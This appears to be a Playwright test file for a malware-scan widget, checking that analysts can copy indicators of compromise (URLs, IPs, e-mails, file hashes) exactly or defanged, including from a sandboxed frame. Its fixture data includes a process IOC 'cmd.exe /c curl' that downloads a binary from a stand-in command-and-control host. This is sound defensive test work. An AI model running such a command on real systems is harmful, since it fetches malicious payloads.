"""What an analyst can copy from a widget."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect
from tests.browser.results import MD5, SHA1, SHA256, as_platform_gets_it, report, scan
from tests.browser.views import HASH, copied, iocs_of, open_lists, scan_hash
from tools.widgets.build import PLACEHOLDER, WIDGETS

if TYPE_CHECKING:
    from playwright.sync_api import Page
    from tests.browser.conftest import Show


@pytest.mark.parametrize(
    ("label", "exact", "defanged"),
    [
        ("URLs", "https://c2.invalid:8443/a.b?q=1.2", "hxxps://c2[.]invalid:8443/a[.]b?q=1[.]2"),
        ("Domains", "c2.invalid", "c2[.]invalid"),
        ("IP addresses", "198.51.100.7\n2001:db8::7", "198[.]51[.]100[.]7\n2001:db8::7"),
        ("E-mails", "eve@mail.invalid", "eve[@]mail[.]invalid"),
        (
            "Processes",
            "cmd.exe /c curl http://c2.invalid/x.bin",
            "cmd.exe /c curl hxxp://c2[.]invalid/x[.]bin",
        ),
    ],
)
def test_iocs_are_copied_exactly_or_defanged(show: Show, label: str, exact: str, defanged: str) -> None:
    """The clipboard contains exactly the IOC, or a form that no program opens."""
    page = scan_hash(show, (HASH, report()))
    box = iocs_of(page, label)
    if box.get_attribute("open") is None:
        box.locator("summary").click()
    box.get_by_role("button", name=f"Copy all: {label}", exact=True).click()
    expect(page.get_by_role("status")).to_have_text(f"Copied: {exact}")
    assert copied(page) == exact
    page.keyboard.press("Escape")
    expect(page.locator("#said")).to_be_empty()
    box.get_by_role("button", name=f"Copy all defanged: {label}", exact=True).click()
    assert copied(page) == defanged
    box.get_by_role("button", name="Copy defanged: ").first.click()
    assert copied(page) == defanged.split("\n", maxsplit=1)[0]


def test_an_ioc_without_an_address_has_no_defanged_form(show: Show) -> None:
    """A mutex or a registry key has only one form, so there is one button."""
    box = iocs_of(scan_hash(show, (HASH, report())), "Mutexes")
    box.locator("summary").click()
    expect(box.get_by_role("button")).to_have_text(["Copy all", "Copy"])


def test_each_hash_of_a_file_can_be_copied(show: Show) -> None:
    """Each of the three hashes has a button, on the IOC and on the sample itself."""
    page = scan_hash(show, (HASH, report()))
    box = iocs_of(page, "Files 2")
    box.locator("summary").click()
    for name, value in {"SHA-256": SHA256, "SHA-1": SHA1, "MD5": MD5}.items():
        box.get_by_role("button", name=f"Copy {name}: ").first.click()
        assert copied(page) == value
        page.get_by_role("button", name=f"Copy: {name}", exact=True).click()
        assert copied(page) == value


def test_the_hashes_of_all_files_are_copied_at_once(show: Show) -> None:
    """The copied list contains each hash once; a type without hashes has no such button."""
    others = ["b" * 64, "c" * 64]
    hashed = report()
    hashed["iocs"]["files"] += [{"filename": "two", "hashes": [{"sha256_hash": one} for one in others]}]
    page = scan_hash(show, (HASH, hashed))
    open_lists(page)
    iocs_of(page, "Files 3").get_by_role("button", name="Copy all SHA-256: Files", exact=True).click()
    assert copied(page) == "\n".join([SHA256, *others])
    iocs_of(page, "E-mails").get_by_role("button", name="Copy all SHA-256: E-mails", exact=True).click()
    assert copied(page) == SHA256
    expect(page.get_by_role("button", name="Copy all SHA-256")).to_have_count(2)


def test_copying_works_in_a_frame_without_an_origin(page: Page) -> None:
    """A sandboxed frame has no permission for the clipboard; the copy event needs none."""
    html = (WIDGETS / "scan_hash.html").read_text("utf-8")
    html = html.replace(PLACEHOLDER, as_platform_gets_it(scan((HASH, report()))))
    page.route(
        "http://127.0.0.1/case",
        lambda route: route.fulfill(body="<!doctype html><body>", content_type="text/html"),
    )
    page.goto("http://127.0.0.1/case")
    page.evaluate(
        """(html) => {
            const frame = document.createElement("iframe");
            frame.sandbox = "allow-scripts";
            frame.srcdoc = html;
            document.body.append(frame);
        }""",
        html,
    )
    frame = page.frame_locator("iframe")
    frame.get_by_role("button", name="Copy: SHA-1", exact=True).click()
    expect(frame.get_by_role("status")).to_have_text("Copied: " + SHA1)
    page.bring_to_front()
    page.locator("body").click(position={"x": 2, "y": 2})
    assert copied(page) == SHA1
